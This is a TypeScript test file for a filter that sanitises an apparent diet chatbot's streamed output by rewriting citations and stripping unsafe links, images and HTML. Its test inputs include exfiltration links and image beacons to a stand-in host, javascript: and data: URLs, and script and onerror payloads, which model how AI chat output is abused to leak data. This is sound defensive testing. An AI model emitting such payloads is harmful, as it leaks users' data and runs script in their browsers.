import { describe, expect, it } from 'vitest';
import { textPart } from '../part.ts';
import { createMarkupFilter } from './markup-filter.ts';
import { createSourceHrefs } from './source-hrefs.ts';

const FLU = '/handbook/keto-flu';
const PAPER = 'https://doi.org/10.1000/xyz123';

function filtered(text: string) {
  const sources = createSourceHrefs();
  sources.allow(1, FLU);
  sources.allow(2, PAPER);
  sources.allow(3, undefined);
  const filter = createMarkupFilter(sources);
  const parts = [...text].flatMap((character) => filter.push(textPart(character)));
  return [...parts, ...filter.end()].map((part) => part.text).join('');
}

describe('citations', () => {
  it.each([
    ['Salt helps [1].', `Salt helps [[1]](${FLU}).`],
    ['Salt helps [1][2].', `Salt helps [[1]](${FLU})[[2]](${PAPER}).`],
    ['Salt helps [1, 2].', `Salt helps [[1]](${FLU})[[2]](${PAPER}).`],
    ['Salt helps [1-2].', `Salt helps [[1]](${FLU})[[2]](${PAPER}).`],
    ['Salt helps [[1]](/somewhere/else).', `Salt helps [[1]](${FLU}).`],
    ['Salt helps [1](https://evil.example/?q=1).', `Salt helps [[1]](${FLU}).`],
    ['Salt helps[^1].', `Salt helps[[1]](${FLU}).`],
    ['Salt helps [source 1].', `Salt helps [[1]](${FLU}).`],
    ['Salt helps 【1†keto-flu】.', `Salt helps [[1]](${FLU}).`],
    ['Salt helps \\[1\\].', `Salt helps [[1]](${FLU}).`],
    ['Salt helps [3].', 'Salt helps [3].'],
    ['Salt helps [1, 7].', `Salt helps [[1]](${FLU}).`],
    ['Salt helps [7].', 'Salt helps.'],
    ['Salt [7] helps.', 'Salt helps.'],
    ['Salt[7] helps.', 'Salt helps.'],
    ['Salt helps [7][8] much [9].', 'Salt helps much.'],
    ['[7] Salt helps.', 'Salt helps.'],
    ['Salt helps [7] [1].', `Salt helps [[1]](${FLU}).`],
    ['Salt helps[^ada-diagnosis].', 'Salt helps.'],
    ['Salt helps [1].\n\n[1]: https://evil.example', `Salt helps [[1]](${FLU}).\n\n`],
    ['Salt helps [1].\n\n[^1]: A study that nobody made.\nBye', `Salt helps [[1]](${FLU}).\n\n\nBye`],
  ])('%s', (written, shown) => {
    expect(filtered(written)).toBe(shown);
  });
});

describe('links and images', () => {
  it.each([
    ['See [keto flu](/handbook/keto-flu).', 'See [keto flu](/handbook/keto-flu).'],
    ['See [the paper](https://doi.org/10.1000/xyz123).', `See [the paper](${PAPER}).`],
    ['See https://doi.org/10.1000/xyz123.', `See ${PAPER}.`],
    ['See [your pantry](/saved-pantry).', 'See [your pantry](/saved-pantry).'],
    ['See [this](https://evil.example/?d=secret).', 'See this.'],
    ['See [this](<https://evil.example/?d=secret>).', 'See this.'],
    ['See [this](//evil.example/x).', 'See this.'],
    ['See [this](/\\evil.example/x).', 'See this.'],
    ['See [this](/api/logout).', 'See this.'],
    ['See [this](/saved-pantry?d=secret).', 'See this.'],
    ['See [this](javascript:alert(1)).', 'See this.'],
    ['See [this](JaVaScRiPt:alert(1) "title").', 'See this.'],
    ['See [this](data:text/html;base64,AAAA).', 'See this.'],
    ['See [this](&#106;avascript:alert(1)).', 'See this.'],
    ['See [this][ref].\n\n[ref]: https://evil.example/x', 'See this.\n\n'],
    ['See ![a chart](https://evil.example/p.png?d=secret).', 'See a chart.'],
    ['See ![](https://evil.example/p.png?d=secret).', 'See .'],
    ['See ![chart][ref] here.', 'See chart here.'],
    ['See [![pic](https://evil.example/p)](https://evil.example/q).', 'See pic.'],
    ['See [![pic](https://evil.example/p)](/handbook/keto-flu).', 'See [pic](/handbook/keto-flu).'],
    ['See https://evil.example/steal?d=secret now.', 'See evil.example now.'],
    ['See www.evil.example/steal?d=secret now.', 'See evil.example now.'],
    ['See <https://evil.example/steal?d=secret> now.', 'See evil.example now.'],
    ['Say javascript:alert(1) now.', 'Say (link left out) now.'],
    ['See [this\nlong label](https://evil.example/x).', 'See [this\nlong label]\\(evil.example).'],
    ['See [this](https://evil.example/x', 'See this'],
    [`See [${'a'.repeat(300)}](https://evil.example/x).`, `See [${'a'.repeat(300)}]\\(evil.example).`],
    ['A [low carb] day.', 'A [low carb] day.'],
    ['- [ ] eggs\n- [x] fish', '- [ ] eggs\n- [x] fish'],
    ['[Note]: drink more water.', '[Note]\\: drink more water.'],
    ['[this]<b>(//evil.example/?d=secret)', '[this]\\(//evil.example/?d=secret)'],
    ['[this]【9】(//evil.example/?d=secret)', '[this]\\(//evil.example/?d=secret)'],
    ['<b>[this]: //evil.example/?d=secret', '[this]\\: //evil.example/?d=secret'],
    [
      'Data: none. The data are few. How? Http is a protocol.',
      'Data: none. The data are few. How? Http is a protocol.',
    ],
  ])('%s', (written, shown) => {
    expect(filtered(written)).toBe(shown);
  });
});

describe('HTML', () => {
  it.each([
    ['A <b>bold</b> word.', 'A bold word.'],
    ['One<br>two', 'One two'],
    ['<script>alert(1)</script>Hi', 'Hi'],
    ['<style>p{}</style>Hi', 'Hi'],
    ['<img src=x onerror=alert(1)>Hi', 'Hi'],
    ['<iframe src="https://evil.example"></iframe>Hi', 'Hi'],
    ['<a href="https://evil.example">Hi</a>', 'Hi'],
    ['<!-- hidden -->Hi', 'Hi'],
    ['<<b>script>alert(1)</script>', '&lt;script>alert(1)'],
    ['Carbs <5 g and fat < 9 g, a<b', 'Carbs <5 g and fat < 9 g, a&lt;b'],
    ['I <3 eggs', 'I <3 eggs'],
    ['An <unclosed tag', 'An &lt;unclosed tag'],
    ['&#50;&#48; g', '20 g'],
    ['&lt;b&gt; &amp; &#60;', '&lt;b&gt; &amp; &#60;'],
  ])('%s', (written, shown) => {
    expect(filtered(written)).toBe(shown);
  });
});
